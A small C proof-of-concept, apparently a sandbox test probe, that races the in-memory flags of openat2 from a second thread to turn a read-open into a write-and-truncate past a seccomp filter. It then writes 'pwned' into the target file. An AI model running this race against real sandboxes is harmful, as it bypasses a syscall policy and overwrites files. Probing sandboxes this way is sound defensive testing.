/* Attack: openat2 keeps its flags in memory, where a seccomp filter cannot
 * look. Ask for a read while a second thread flips the flags to a write:
 * if the flags are checked and the kernel reads them again afterwards, a
 * write-open gets through undecided. Usage: static_openat2_race FILE.
 * Prints "write: done" when a write went through, "openat2: refused
 * errno=N" when openat2 is not available, "no write" otherwise. */
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct open_how how;
static volatile int stop, started;

static void *flip(void *p)
{
	(void)p;
	started = 1;
	for (unsigned long i = 0; !stop; i++)
		__atomic_store_n(&how.flags,
				 (i & 1) ? (__u64)(O_WRONLY | O_TRUNC)
					 : O_RDONLY,
				 __ATOMIC_RELAXED);
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	while (!started)
		;
	int wrote = 0, err = 0;
	for (int i = 0; i < 100000 && !wrote; i++) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, argv[1], &how,
				      sizeof(how));
		if (fd < 0) {
			err = errno;
			if (err == ENOSYS)
				break;
			continue;
		}
		if ((fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY &&
		    write(fd, "pwned\n", 6) == 6)
			wrote = 1;
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	if (wrote)
		printf("write: done\n");
	else if (err == ENOSYS)
		printf("openat2: refused errno=%d\n", err);
	else
		printf("no write\n");
	return 0;
}
